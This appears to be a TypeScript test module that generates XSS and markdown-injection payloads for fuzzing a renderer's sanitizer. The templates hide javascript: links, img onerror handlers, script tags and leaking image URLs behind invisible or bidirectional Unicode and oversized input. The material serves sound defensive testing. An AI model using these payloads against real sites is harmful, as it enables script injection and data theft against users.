import { attacker, leak, script, type Template } from "./payload.js";

const invisible: readonly string[] =
  "\u202A \u202B \u202C \u202D \u202E \u2066 \u2067 \u2068 \u2069 \u200E \u200F \u061C \u200B \u200C \u200D \u2060 \uFEFF \u00AD \u034F \u180E \u3164 \u115F \u2028 \u2029 \uFFF9 \uFFFC \u{E0001} \u{E0041} \uD800 \uDC00 \uFFFF \0 \u0008 \u001B".split(
    " ",
  );

/** Characters that show nothing, turn others round, or are none. */
export function* characterPayloads(): Generator<Template> {
  for (const char of invisible) {
    const writes: readonly ((id: string) => string)[] = [
      (id) => `${char}[moc.elpmaxe${char}](${attacker}/${id})${char}`,
      (id) => `[go${char}](java${char}script:${script(id)})`,
      (id) => `![${char}a](${leak(id)}${char})`,
      (id) => `<img${char} src=x onerror${char}=${script(id)}>`,
      (id) => `\`${char}${id}${char}\` ${char}**${id}**${char}`,
      (id) => `\`\`\`${char}js\nif (admin${char}) ${id}\n\`\`\``,
    ];
    for (const write of writes) yield { kind: "character", canAct: false, write };
  }
}

const long = 20_000;

/** Much of everything, and everything in itself. */
export function* sizePayloads(): Generator<Template> {
  const writes: readonly ((id: string) => string)[] = [
    (id) => `[go](javascript:${script(id)}${"a".repeat(long)})`,
    (id) => `[${"a".repeat(long)}](javascript:${script(id)})`,
    (id) => `![x](${leak(id)}${"a".repeat(long)})`,
    (id) => `[go](https://example.com "${id}${"a".repeat(long)}")`,
    (id) => `<img src=x ${"a ".repeat(long / 2)}onerror=${script(id)}>`,
    (id) => `<img src="${"a".repeat(long)}" onerror="${script(id)}">`,
    (id) => `${"<b>".repeat(long / 3)}${id}<img src=x onerror=${script(id)}>`,
    (id) => `${"<svg>".repeat(500)}<script>${script(id)}</script>`,
    (id) => `<!--${" ".repeat(long)}--><script>${script(id)}</script>`,
    (id) => `${"> ".repeat(200)}<script>${script(id)}</script>`,
    (id) => `${"- ".repeat(200)}[go](javascript:${script(id)})`,
    (id) => `${"[".repeat(2_000)}${id}${`](javascript:${script(id)})`.repeat(200)}`,
    (id) => `${"![".repeat(500)}${id}${`](${leak(id)})`.repeat(500)}`,
    (id) => `${"*".repeat(2_000)}[go](javascript:${script(id)})${"*".repeat(2_000)}`,
    (id) => `${"`".repeat(5_000)}[go](javascript:${script(id)})`,
    (id) => `${"&#106;".repeat(2_000)}${id}`,
    (id) => `${"[^a]".repeat(200)}\n\n[^a]: [go](javascript:${script(id)})`,
    (id) =>
      Array.from({ length: 500 }, (_, index) => `[r${index}]: javascript:${script(id)}`).join("\n") + "\n\n[r9] [r499]",
    (id) => `|${" a |".repeat(200)}\n|${"-|".repeat(200)}\n|${` <img src=x onerror=${script(id)}> |`.repeat(200)}`,
    (id) => `${"\u202E".repeat(2_000)}[go](javascript:${script(id)})`,
    (id) => `${"\u0301".repeat(5_000)}${id}`,
    (id) => `\`\`\`${"x".repeat(long)}\n<script>${script(id)}</script>`,
    (id) => `<a href="javascript:${script(id)}">`.repeat(300),
    (id) => `<javascript:${script(id)}> `.repeat(300),
  ];
  for (const write of writes) yield { kind: "size", canAct: false, write };
}
